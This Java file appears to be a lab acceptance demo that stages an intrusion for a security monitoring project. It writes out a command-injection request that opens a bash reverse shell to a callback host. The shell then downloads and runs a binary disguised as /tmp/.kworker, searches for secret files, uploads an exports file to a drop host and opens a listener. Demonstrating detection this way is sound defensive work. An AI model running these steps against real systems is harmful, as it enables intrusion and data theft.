// Copyright The Plumbline Authors
// SPDX-License-Identifier: Apache-2.0
package io.plumbline.acceptance.demo;

import io.plumbline.acceptance.lab.LabNode;
import io.plumbline.acceptance.lab.pod.Pod;
import io.plumbline.acceptance.lab.runtime.Command;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

/**
 * An intruder who found the hole in the shop's export: one request to the web server gives a shell that calls back, and the rest is
 * typed into it. Nothing enters the pod through the container runtime.
 */
final class Intrusion {
    private static final Duration BETWEEN = Duration.ofSeconds(5);
    private static final Duration ANSWER_LIMIT = Duration.ofSeconds(15);
    private static final String CALLBACK_PORT = "4444";
    /**
     * The request of the intruder. What it leaves running holds the connection open: so the answer ends after a while.
     */
    private static final String REQUEST =
            "exec 3<>/dev/tcp/$0/8080 && printf 'GET %s HTTP/1.0\\r\\n\\r\\n' \"$1\" >&3 && { timeout 2 cat <&3 || true; }";

    private static final int SHOWN_LINES = 3;

    private final LabNode node;
    private final Shop.Opened shop;
    private final Pod stranger;
    private final Screen screen;

    Intrusion(LabNode node, Shop.Opened shop, Pod stranger, Screen screen) {
        this.node = node;
        this.shop = shop;
        this.stranger = stranger;
        this.screen = screen;
    }

    void play() throws IOException, InterruptedException {
        // From the stranger's address, but by no process of its pod.
        Process callback = new ProcessBuilder(inStranger("/bin/busybox", "nc", "-l", "-p", CALLBACK_PORT))
                .redirectErrorStream(true)
                .start();
        try {
            Thread.ofVirtual().name("demo-callback").start(() -> show(callback));
            title(1, "a shell from the web server, by one request");
            String shell = "bash -c 'bash -i >& /dev/tcp/" + stranger.ip() + "/" + CALLBACK_PORT + " 0>&1'";
            screen.say("   GET /export?file=prices.csv; %s", shell);
            request("prices.csv; " + shell + " >/dev/null 2>&1 &");
            Thread.sleep(BETWEEN);

            title(2, "a dropped binary");
            type(callback, "curl -s -o /tmp/.kworker http://" + stranger.ip() + ":8000/converse");
            type(callback, "chmod +x /tmp/.kworker; /tmp/.kworker hold " + stranger.ip() + " 8000 3");
            Thread.sleep(BETWEEN);

            title(3, "discovery");
            type(callback, "id; ps ax | wc -l; find / -xdev -name '*secret*' 2>/dev/null | head -1");
            Thread.sleep(BETWEEN);

            title(4, "a peer never seen: redis, which only the cart talks with");
            type(callback, "/tmp/.kworker connect " + shop.redis().ip() + " 6379 5 300");
            Thread.sleep(BETWEEN);

            title(5, "a name never asked for");
            type(callback, "curl -s -m 2 -T /srv/shop/exports/prices.csv http://" + Town.DROP + "/");
            Thread.sleep(BETWEEN);

            title(6, "a new listener");
            type(callback, "/tmp/.kworker listen 31337 &");
            Thread.sleep(BETWEEN);
        } finally {
            callback.destroy();
        }
    }

    private void title(int number, String text) {
        screen.say("");
        screen.say("step %d: %s", number, text);
    }

    private void request(String file) throws IOException {
        String path = "/export?file="
                + URLEncoder.encode(file, StandardCharsets.UTF_8).replace("+", "%20");
        Command.of(inStranger("bash", "-c", REQUEST, shop.web().ip(), path))
                .within(ANSWER_LIMIT)
                .run();
    }

    private void type(Process callback, String line) throws IOException {
        screen.say("   $ %s", line);
        callback.getOutputStream().write((line + "\n").getBytes(StandardCharsets.UTF_8));
        callback.getOutputStream().flush();
    }

    private List<String> inStranger(String... argv) {
        return node.inNetworkOf(stranger.container("files").pid(), argv);
    }

    /** Shows what the shell answers; its prompts and what is echoed stay out. */
    private void show(Process callback) {
        try (var reader =
                new BufferedReader(new InputStreamReader(callback.getInputStream(), StandardCharsets.UTF_8))) {
            int shown = 0;
            for (String line = reader.readLine(); line != null; line = reader.readLine()) {
                // A shell without a terminal shows its prompt and repeats what was typed.
                boolean prompt = line.contains("www-data@") || line.startsWith("bash:") || line.startsWith("<");
                shown = prompt ? 0 : shown + 1;
                if (!prompt && shown <= SHOWN_LINES) {
                    screen.say("   -> %s", line);
                }
            }
        } catch (IOException closed) {
            screen.say("   (the intruder hangs up)");
        }
    }
}
